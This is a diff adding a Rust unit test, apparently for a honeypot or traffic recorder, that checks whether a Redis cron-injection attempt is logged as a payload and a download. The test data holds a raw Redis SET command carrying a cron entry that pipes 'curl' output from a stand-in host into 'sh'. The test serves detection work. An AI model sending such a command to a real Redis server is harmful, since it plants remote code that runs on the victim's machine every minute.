@@ -324,6 +324,16 @@ mod tests {
     }
 
     #[test]
+    fn what_a_job_for_cron_would_fetch_is_recorded_wherever_it_is_sent() {
+        let set =
+            b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$56\r\n\n*/1 * * * * curl -fsSL http://192.0.2.9/init.sh | sh\n\n\r\n";
+        let outcome = Transcript::tcp("tcp", "").dialling(6_379).run(&[Step::Recv(set), Step::Eof]);
+        outcome.the_event("payload");
+        let download = &outcome.the_event("download").fields;
+        assert_eq!((&download["url"], &download["tool"]), (&"http://192.0.2.9/init.sh".into(), &"curl".into()));
+    }
+
+    #[test]
     fn everything_that_came_is_handed_over_however_much_it_is() {
         let mut upload = CNXN.to_vec();
         upload.resize(60_000, b'x');
